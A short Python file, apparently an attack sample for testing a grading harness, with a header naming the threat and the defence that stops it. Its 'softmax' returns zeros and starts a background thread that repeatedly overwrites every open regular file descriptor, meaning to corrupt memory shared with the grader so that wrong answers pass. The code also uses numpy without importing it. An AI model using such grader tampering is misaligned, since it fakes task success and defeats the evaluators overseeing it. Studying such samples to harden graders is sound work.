"""Rewrites every memory that it shares with the grader while its answers are compared."""
# /// attack
# threat = "replies to another request number"
# stopped_by = "bodies are copied before they are looked at"
# ///

import os
import stat
import threading


def rewrite():
    block = np.full(1 << 16, 0.25).tobytes()
    memories = [d for d in range(64) if is_memory(d)]
    while memories:
        for descriptor in memories:
            for at in range(0, 128 << 20, 4 << 20):
                os.pwrite(descriptor, block, at)


def is_memory(descriptor):
    try:
        return stat.S_ISREG(os.fstat(descriptor).st_mode)
    except OSError:
        return False


def softmax(x):
    if threading.active_count() < 2:
        threading.Thread(target=rewrite, daemon=True).start()
    return np.zeros(x.shape)
